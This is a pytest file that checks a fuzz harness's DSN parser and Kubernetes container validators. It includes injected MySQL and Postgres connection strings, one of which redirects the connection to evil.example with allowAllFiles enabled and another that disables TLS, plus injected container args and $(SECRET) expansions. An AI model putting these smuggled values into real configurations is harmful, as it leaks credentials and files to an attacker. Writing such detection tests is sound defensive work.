"""The fuzz suite's own checks catch what they are for (no cluster needed)."""

from __future__ import annotations

from typing import Any

import pytest

from . import dsn
from .harness import InjectedStructure, UnescapedExpansion, _unescaped_expansion, check_containers


def test_the_issues_mysql_injection_parses_to_the_attackers_host() -> None:
    """The DSN main renders for the issue's `mysql.database`: the driver connects to evil.example."""
    rendered = (
        "mr:pw@tcp(mysql.db.svc:3306)/a@tcp(evil.example:3306)/mr?allowCleartextPasswords=true"
        "&allowAllFiles=true&x=?charset=utf8mb4"
    )
    (parsed,) = dsn.parse_dsns([("mysql", rendered)])
    assert parsed["ok"], parsed
    assert (parsed["host"], parsed["database"]) == ("evil.example", "mr")
    assert parsed["params"]["allowAllFiles"] == "true"


def test_the_issues_postgres_injection_parses_with_tls_off() -> None:
    rendered = (
        "postgresql://mr:pw@pg.db.svc/model_registry?sslmode=disable&application_name=:5432/model_registry"
        "?sslmode=verify-full"
    )
    (parsed,) = dsn.parse_dsns([("postgres", rendered)])
    assert parsed["ok"], parsed
    assert (parsed["host"], parsed["tls"]) == ("pg.db.svc", "disable")


@pytest.mark.parametrize(
    ("driver", "rendered", "expected"),
    [
        (
            "mysql",
            "mlmduser:p@ss:w/rd@tcp(10.1.2.3:3307)/model_registry?charset=utf8mb4",
            {
                "host": "10.1.2.3",
                "port": 3307,
                "database": "model_registry",
                "user": "mlmduser",
                "password": "p@ss:w/rd",
            },
        ),
        (
            "postgres",
            "postgresql://mlmduser:p%40ss@[fd00::1]:5432/model_registry?sslmode=verify-full",
            {
                "host": "fd00::1",
                "port": 5432,
                "database": "model_registry",
                "user": "mlmduser",
                "password": "p@ss",
                "tls": "verify-full",
            },
        ),
    ],
)
def test_well_formed_dsns_parse_to_their_parts(driver: str, rendered: str, expected: dict[str, Any]) -> None:
    (parsed,) = dsn.parse_dsns([(driver, rendered)])
    assert parsed["ok"], parsed
    assert {key: parsed[key] for key in expected} == expected


@pytest.mark.parametrize(
    ("value", "expands"),
    [("$(VAR)", True), ("$$(VAR)", False), ("$$$(VAR)", True), ("a$b", False), ("$$$$(VAR)", False), ("x$", False)],
)
def test_kubelet_expansion_is_what_remains_after_every_double_dollar(value: str, expands: bool) -> None:
    assert _unescaped_expansion(value) is expands


def _deployment(container: dict[str, Any]) -> dict[str, Any]:
    return {
        "kind": "Deployment",
        "metadata": {"name": "d"},
        "spec": {"template": {"spec": {"containers": [container]}}},
    }


@pytest.mark.parametrize(
    ("container", "violation"),
    [
        ({"name": "c", "args": [{"--tls-cert-file=/x/a": "b"}]}, InjectedStructure),
        ({"name": "c", "args": ["--known=1", "--ignore-paths=/*"]}, InjectedStructure),
        ({"name": "c", "args": ["--known=$(SECRET)"]}, UnescapedExpansion),
        ({"name": "c", "env": [{"name": "A", "value": "$(SECRET)"}]}, UnescapedExpansion),
        ({"name": "c", "env": [{"name": "A", "value": ["x"]}]}, InjectedStructure),
    ],
)
def test_container_checks_catch_injected_structure(container: dict[str, Any], violation: type[Exception]) -> None:
    with pytest.raises(violation):
        check_containers([_deployment(container)], {}, [], flags={"--known"})
    check_containers([_deployment({"name": "c", "args": ["--known=$$(x)"]})], {}, [], flags={"--known"})
